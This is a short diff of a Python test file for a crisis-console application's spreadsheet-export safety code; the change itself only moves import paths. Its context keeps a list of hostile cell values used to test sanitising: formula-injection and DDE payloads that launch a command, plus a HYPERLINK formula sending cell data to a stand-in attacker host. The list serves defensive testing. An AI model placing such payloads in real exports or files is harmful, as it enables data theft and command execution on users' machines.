@@ -11,9 +11,9 @@ from hypothesis import strategies as st
 
 from crisisconsole.interchange.cell_safety import FORMULA_STARTS, neutral_text, safe_cell
 from crisisconsole.interchange.log_export import to_csv
-from crisisconsole.services.intake_table import import_table
-from crisisconsole.services.log_entries import Attachment, add_entry, correct_entry
-from crisisconsole.services.log_export_data import gather_log
+from crisisconsole.services.intake.table import import_table
+from crisisconsole.services.log.entries import Attachment, add_entry, correct_entry
+from crisisconsole.services.log.export_data import gather_log
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
